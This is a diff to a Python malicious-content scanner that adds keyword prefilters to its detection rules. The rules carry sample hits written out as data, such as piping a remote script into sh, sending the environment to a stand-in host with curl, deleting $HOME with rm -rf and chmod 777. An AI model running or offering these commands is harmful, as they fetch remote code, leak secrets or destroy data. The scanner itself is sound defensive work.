@@ -19,7 +19,11 @@ Find = Callable[[str], Iterator[int]]
 
 @dataclass(frozen=True, slots=True)
 class Rule:
-    """`repeat` is ONCE (first match of a file) or EVERY (up to `scanner.MAX_MATCHES`, then one summary)."""
+    """`repeat` is ONCE (first match of a file) or EVERY (up to `scanner.MAX_MATCHES`, then one summary).
+
+    `needs`: in lower case, one of each group stands in every text that `find` finds something in. Most texts have
+    none, and looking for a word is a hundred times quicker than the expression.
+    """
 
     id: str
     severity: str
@@ -28,6 +32,11 @@ class Rule:
     misses: str
     find: Find
     repeat: str = ONCE
+    needs: tuple[tuple[str, ...], ...] = ()
+
+    def may_hit(self, lowered: str) -> bool:
+        """Whether it is worth looking; `lowered` is the text in lower case."""
+        return all(any(word in lowered for word in group) for group in self.needs)
 
 
 def line_starts(text: str) -> list[int]:
@@ -167,6 +176,7 @@ TEXT_RULES: tuple[Rule, ...] = (
         "gh" + "p_A1b2A1b2A1b2A1b2A1b2",
         "sk-... and ${OPENAI_API_KEY}",
         _secrets,
+        needs=(("sk-", "ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_", "xox", "aiza", "-----begin"),),
     ),
     Rule(
         "shell-pipe-to-shell",
@@ -175,6 +185,7 @@ TEXT_RULES: tuple[Rule, ...] = (
         "curl -fsSL https://x.example/i.sh | sh",
         "curl https://x.example/data.json | python3 -m json.tool",
         _pattern(r"\b(?:curl|wget)\b[^|\n]{0,120}\|[ \t]*(?:sh|bash|zsh)\b", re.IGNORECASE),
+        needs=(("curl", "wget"), ("|",)),
     ),
     Rule(
         "secret-exfiltration",
@@ -183,6 +194,7 @@ TEXT_RULES: tuple[Rule, ...] = (
         "env | curl -d @- https://x.example",
         "Put the values into the env file and restart.",
         _pattern(r"(?:\bprocess\.env\b|\benv\b)[^\n]{0,80}?\b(?:fetch|curl|wget|https?)\b", re.IGNORECASE),
+        needs=(("env",), ("fetch", "curl", "wget", "http")),
     ),
     Rule(
         "destructive-delete",
@@ -191,6 +203,7 @@ TEXT_RULES: tuple[Rule, ...] = (
         "rm -rf $HOME/x",
         "rm -rf build",
         _pattern(r"\brm[ \t]+-rf[ \t]+(?:/|\$HOME|~|\.)"),
+        needs=(("-rf",),),
     ),
     Rule(
         "unsafe-permissions",
@@ -199,6 +212,7 @@ TEXT_RULES: tuple[Rule, ...] = (
         "chmod -R 777 out",
         "chmod 755 run.sh",
         _pattern(r"\bchmod[ \t]+(?:-R[ \t]+)?777\b"),
+        needs=(("chmod",), ("777",)),
     ),
 )
 
@@ -211,6 +225,7 @@ CODE_RULES: tuple[Rule, ...] = (
         "const m = /a+/.exec(text);",
         _dangerous_exec,
         EVERY,
+        needs=(("child_process",),),
     ),
     Rule(
         "dynamic-code-execution",
@@ -220,6 +235,7 @@ CODE_RULES: tuple[Rule, ...] = (
         "evaluate(x); medieval (1)",
         _pattern(r"\beval[ \t]*\(|\bnew[ \t]+Function[ \t]*\("),
         EVERY,
+        needs=(("eval", "function"),),
     ),
     Rule(
         "crypto-mining",
@@ -229,6 +245,8 @@ CODE_RULES: tuple[Rule, ...] = (
         "mining of texts",
         _pattern(r"stratum\+(?:tcp|ssl)|coinhive|cryptonight|xmrig", re.IGNORECASE),
         EVERY,
+        # Without its first letter: a long s counts as one, and stays what it is in lower case.
+        needs=(("tratum+", "coinhive", "cryptonight", "xmrig"),),
     ),
     Rule(
         "suspicious-network",
@@ -238,6 +256,7 @@ CODE_RULES: tuple[Rule, ...] = (
         "new WebSocket('ws://h.example:8080/x')",
         _odd_ports,
         EVERY,
+        needs=(("websocket",),),
     ),
     Rule(
         "potential-exfiltration",
@@ -246,6 +265,7 @@ CODE_RULES: tuple[Rule, ...] = (
         "readFileSync('a'); axios.post('u')",
         "readFileSync('a'); print('u')",
         _read_and_send,
+        needs=(("readfile",),),
     ),
     Rule(
         "obfuscated-code",
@@ -254,6 +274,7 @@ CODE_RULES: tuple[Rule, ...] = (
         r"'\x41\x42\x43\x44\x45\x46'",
         r"'\x41\x42'",
         _obfuscated,
+        needs=(("\\x", "atob", "buffer.from"),),
     ),
     Rule(
         "env-harvesting",
@@ -262,6 +283,7 @@ CODE_RULES: tuple[Rule, ...] = (
         "const t = process.env.TOKEN;\nfetch('https://x.example')",
         "const t = process.env.TOKEN;\nprint(t)",
         _env_near_network,
+        needs=(("process.env",),),
     ),
 )
 
